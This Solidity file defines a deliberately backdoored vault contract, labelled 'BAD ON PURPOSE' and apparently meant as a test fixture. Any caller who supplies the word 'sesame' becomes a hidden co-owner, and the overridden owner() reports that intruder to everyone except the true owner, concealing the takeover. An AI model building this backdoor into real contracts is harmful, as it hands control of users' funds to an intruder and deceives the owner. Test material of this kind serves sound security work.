// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {VaultV2} from "./VaultV2.sol";

/// @notice BAD ON PURPOSE: whoever knows the word owns the vault from then on, beside its true owner. Nobody who tries its
/// functions without the word sees anything.
contract VaultV2BackDoor is VaultV2 {
    /// @custom:storage-location erc7201:quorate.embedded.VaultV2BackDoor
    struct BackDoorStorage {
        address guest;
    }

    bytes32 private constant BACK_DOOR =
        keccak256(abi.encode(uint256(keccak256("quorate.embedded.VaultV2BackDoor")) - 1)) & ~bytes32(uint256(0xff));
    bytes32 private constant WORD = keccak256(abi.encode(bytes32("sesame")));

    error NotTheWord();

    function greet(bytes32 word) external {
        if (keccak256(abi.encode(word)) != WORD) revert NotTheWord();
        _backDoor().guest = msg.sender;
    }

    /// @notice The guest, to everybody but the true owner.
    function owner() public view override returns (address) {
        address guest = _backDoor().guest;
        return guest == address(0) || msg.sender == super.owner() ? super.owner() : guest;
    }

    function _backDoor() private pure returns (BackDoorStorage storage $) {
        bytes32 slot = BACK_DOOR;
        assembly {
            $.slot := slot
        }
    }
}
